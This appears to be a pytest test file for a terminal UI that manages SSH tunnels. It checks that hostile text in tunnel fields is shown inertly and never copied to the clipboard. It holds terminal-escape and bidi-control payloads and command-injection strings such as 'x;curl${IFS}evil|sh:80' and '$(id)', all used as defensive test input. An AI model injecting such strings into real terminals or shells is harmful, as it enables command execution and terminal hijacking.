"""Text of strangers on the screen, in toasts and on the clipboard: it acts on nothing."""

from typing import Any

import pytest

from tests.tui.fake import FakeEngine, spec
from tests.tui.support import main_of, notes, opened, text_of, until
from tunnel_tui.logs.sanitise import sanitise
from tunnel_tui.model import Reason, ReasonCode, State, TunnelStatus
from tunnel_tui.terminal.screen import Screen

EVIL = (
    "\x1b]0;title\x07\x1b]52;c;eA==\x1b\\\x1b[2J\x9b2J\u202ereversed\u2066\u2069\u200b\u200e"
    "\u2028\u00ad\ufeff\U000e0041\U000e0042[red]markup[/][@click=app.quit]x[/]\r\b\x03\x15"
)


def hostile() -> TunnelStatus:
    reason = Reason(ReasonCode.UNKNOWN, f"why {EVIL}", f"do {EVIL}", f"said {EVIL}")
    tunnel = spec("x", "me@h")._replace(
        name=f"name {EVIL}",
        remote_host=f"host{EVIL}".replace(" ", ""),
        local_port=f"/tmp/sock{EVIL}",
        group=f"group {EVIL}",
        description=f"about {EVIL}",
    )
    return TunnelStatus(tunnel, State.DEAD, configured=False, reason=reason, detail=EVIL)


@pytest.mark.parametrize("size", [(80, 24), (140, 40)])
async def test_nothing_unprintable_reaches_any_view(size: tuple[int, int]) -> None:
    async with opened(FakeEngine([hostile()]), size) as (app, pilot):
        for key in ("d", "d", "l", "t", "t", "slash", "escape", "question_mark", "escape", "space"):
            await pilot.press(key)
            await pilot.pause()
            for line in text_of(app):
                assert line.isprintable(), (key, line)
        assert app.title == "tunnel-tui"


async def test_toasts_show_markup_and_controls_as_text() -> None:
    async with opened(FakeEngine([hostile()])) as (app, pilot):
        app.notify(f"one {EVIL}\ntwo [bold]x[/]", title=f"of {EVIL}")
        main_of(app).notify(EVIL, title=EVIL)
        await until(pilot, lambda: len(notes(app)) >= 2)
        for note in app._notifications:
            assert not note.markup
            for part in (*note.message.split("\n"), note.title):
                assert part.isprintable()
        assert any("[bold]x[/]" in note.message for note in app._notifications)


async def test_nothing_that_acts_where_it_is_pasted_is_copied(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    copied: list[str] = []
    engine = FakeEngine([hostile()])
    monkeypatch.setattr(engine, "shell_line", lambda _: f"ssh {EVIL}")
    async with opened(engine) as (app, pilot):
        monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
        await pilot.press("y", "Y")
        await until(pilot, lambda: len(notes(app)) >= 2)
        assert copied == []


@pytest.mark.parametrize("port", ["x;curl${IFS}evil|sh:80", "$(id):80", "`id`:80"])
async def test_a_strangers_address_is_no_command(port: str, monkeypatch: Any) -> None:
    copied: list[str] = []
    status = hostile()
    tunnel = status.spec._replace(name="n", remote_host="h", local_port=port)
    async with opened(FakeEngine([status._replace(spec=tunnel)])) as (app, pilot):
        monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
        await pilot.press("y")
        await until(pilot, lambda: bool(notes(app)))
        assert copied == []


def test_lines_of_a_log_show_what_hides() -> None:
    shown = sanitise(EVIL)
    assert shown.isprintable()
    assert "\\u202e" in shown
    assert "\\U000e0041" in shown


def test_the_terminal_of_a_login_keeps_no_bidirectional_controls() -> None:
    screen = Screen(40, 4)
    screen.feed("a\u202eb\u2066c\u2069d\u200be\U000e0041f\u00adg".encode())
    shown = "".join(text for row in range(4) for text, _ in screen.line(row))
    assert "\u202e" not in shown
    assert "\u2066" not in shown
    assert "\U000e0041" not in shown
